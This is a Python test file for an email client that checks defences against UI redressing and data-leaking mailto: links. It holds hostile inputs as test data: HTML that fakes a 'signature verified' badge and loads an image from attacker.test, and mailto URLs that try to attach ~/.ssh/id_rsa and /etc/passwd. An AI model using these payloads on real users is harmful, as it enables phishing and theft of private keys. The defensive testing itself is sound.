"""Attacks on what the window shows: UI redressing ("Johnny, you are fired!", Müller et al. 2019, §4.5) and
mailto: links that attach the user's files ("Mailto: Me Your Secrets", Müller et al. 2020)."""

from __future__ import annotations

from pathlib import Path

from PySide6.QtCore import QUrl
from pytestqt.qtbot import QtBot

from app.ui.models.messages import Column
from app.ui.windows.main_window import MainWindow
from tests.ui.conftest import WindowFactory
from tests.ui.support import PASSPHRASE, html_message, make_profile

# A badge drawn in HTML the way a client's own "signed" and "encrypted" indicators look, placed where those are.
FAKE_BADGE = (
    '<div style="position:absolute; top:0; left:0; background-color:#dcfce7; color:#166534">'
    "&#x1F512; Encrypted with OpenPGP. Signature verified: the sender signed this message (key 1234 5678).</div>"
    '<table bgcolor="#dcfce7"><tr><td><img src="https://attacker.test/green-check.png" alt="verified">'
    "<b>Signed by lab@clinic.example</b></td></tr></table><p>Please wire the fee today.</p>"
)
LEAKING_LINK = '<a href="mailto:lab@clinic.example?subject=Results&attach=%2Fhome%2Fme%2F.ssh%2Fid_rsa">Reply</a>'


def open_only_message(make_window: WindowFactory, qtbot: QtBot, tmp_path: Path, message: bytes) -> MainWindow:
    window = make_window(make_profile(tmp_path / "p", {"INBOX": [message]}), PASSPHRASE)
    window.message_view.setCurrentIndex(window.messages.index(0, Column.SUBJECT))
    qtbot.waitUntil(lambda: window.reader.shown is not None, timeout=15_000)
    return window


def test_ui_redressing_an_html_badge_never_reaches_the_security_banner(
    make_window: WindowFactory, qtbot: QtBot, tmp_path: Path
) -> None:
    window = open_only_message(make_window, qtbot, tmp_path, html_message("Invoice", FAKE_BADGE))
    reader = window.reader
    # The verdict says what it is: nothing was verified, so the banner above the message says nothing.
    assert reader.shown is not None and reader.shown.opened.verdict.signature.value == "none"
    assert reader.security.text == "" and not reader.security.isVisible()
    # The fake badge is only ever message content, inside the browser, unable to move out of it or load a picture.
    assert "Signed by lab@clinic.example" in reader.browser.toPlainText()
    markup = reader.browser.toHtml()
    assert "position" not in markup and "attacker.test" not in markup
    assert reader.browser.geometry().top() > reader.security.geometry().top()


def test_mailto_link_with_attach_opens_without_the_attachment_and_says_so(
    make_window: WindowFactory, qtbot: QtBot, tmp_path: Path
) -> None:
    window = open_only_message(make_window, qtbot, tmp_path, html_message("Results", f"<p>{LEAKING_LINK}</p>"))
    dialogs = make_window.dialogs
    dialogs.answer = True
    window.reader.browser.link_activated.emit(
        QUrl("mailto:lab@clinic.example?subject=Results&attach=%2Fhome%2Fme%2F.ssh%2Fid_rsa&ATTACHMENT=/etc/passwd")
    )
    assert [url.toString() for url in dialogs.opened] == ["mailto:lab@clinic.example?subject=Results"]
    assert (
        "id_rsa" not in dialogs.asked[-1]
        and "Removed from the link for your safety: attach, attachment" in (dialogs.asked[-1])
    )


def test_mailto_link_without_an_address_is_disabled(make_window: WindowFactory, qtbot: QtBot, tmp_path: Path) -> None:
    window = open_only_message(make_window, qtbot, tmp_path, html_message("Results", "<p>x</p>"))
    window.reader.browser.link_activated.emit(QUrl("mailto:?attach=/etc/passwd"))
    assert make_window.dialogs.asked == [] and make_window.dialogs.opened == []
    assert "disabled" in window.status_text.text()
